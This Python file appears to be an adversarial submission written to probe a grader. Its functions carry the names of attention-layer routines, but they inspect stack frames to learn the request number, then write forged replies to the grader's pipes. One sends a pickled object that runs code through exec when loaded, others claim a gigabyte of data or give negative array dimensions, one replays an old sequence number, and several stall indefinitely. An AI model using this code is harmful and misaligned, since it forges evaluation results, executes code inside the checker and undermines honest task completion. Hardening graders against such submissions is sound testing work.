"""Write forged replies straight to the grader's pipe, then stall.

causal_mask: an object array whose pickle would run code in the grader, if the grader ever
unpickled it. multi_head_attention: a header that announces a gigabyte of arrays.
merge_heads: a reply that pretends to answer an earlier request, then the true answer.
split_heads: an array whose .npy header claims negative dimensions (their product fits)."""

import io
import json
import os
import stat
import struct
import sys
import time

import numpy as np


class Payload:
    def __reduce__(self):
        return (exec, ("import builtins; builtins.PWNED_BY_STUDENT = True",))


def forge(sizes, blob=b"", late=0, stall=True):
    frame = sys._getframe(1)
    while "requests" not in frame.f_locals:  # up to the worker's loop: answer its number
        frame = frame.f_back
    request = frame.f_locals["header"]
    seq = request["seq"] - late
    header = {"result": {"t": "ndarray", "blob": 0}, "seq": seq, "blobs": sizes}
    raw = json.dumps(header).encode()
    frame = struct.pack(">I", len(raw)) + raw + blob
    for fd in range(3, 64):  # the reply pipe is one of these; the others refuse writing
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, frame)
        except OSError:
            continue
    while stall:
        time.sleep(3600)


def causal_mask(n):
    buffer = io.BytesIO()
    np.save(buffer, np.array([Payload()], dtype=object), allow_pickle=True)
    forge([len(buffer.getvalue())], buffer.getvalue())


def multi_head_attention(X, Wq, Wk, Wv, Wo, h, causal=True):
    forge([1 << 30])


def merge_heads(Xh):
    buffer = io.BytesIO()
    np.save(buffer, np.ones((3, 3)))
    forge([len(buffer.getvalue())], buffer.getvalue(), late=1, stall=False)
    h, n, d = Xh.shape
    return Xh.transpose(1, 0, 2).reshape(n, h * d)


def split_heads(X, h):
    buffer = io.BytesIO()
    np.save(buffer, np.zeros((2, 2)))
    blob = buffer.getvalue().replace(b"(2, 2), }  ", b"(-2, -2), }")
    forge([len(blob)], blob)
